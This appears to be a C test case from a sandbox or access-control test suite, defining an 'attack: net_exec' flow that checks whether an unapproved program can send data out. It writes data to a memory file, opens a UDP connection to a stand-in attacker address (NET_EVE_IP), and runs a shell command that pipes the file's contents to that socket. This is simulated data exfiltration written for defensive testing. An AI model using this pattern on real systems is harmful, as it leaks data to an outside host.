// SPDX-License-Identifier: GPL-3.0-or-later
/* Another program, that is not approved, sends what it was left. */
#include "flow-net.h"

static int put(void)
{
	int memfd = memfd_create("kept", 0), r = flow_write(memfd),
	    out = net_connect(NET_EVE_IP, FLOW_PORT, SOCK_DGRAM, 0);
	char line[128], *args[] = { (char *)"sh", (char *)"-c", line, NULL };

	if (r || out < 0)
		return r ?: -errno;
	snprintf(line, sizeof(line), "cat /proc/self/fd/%d >&%d || exit 1; kill -STOP $$", memfd,
		 out);
	execv("/bin/sh", args);
	return -errno;
}

FLOW("attack: net_exec; threat: #62; op: send; door: network", .make = make_udp, .put = put,
     .get = get_net);
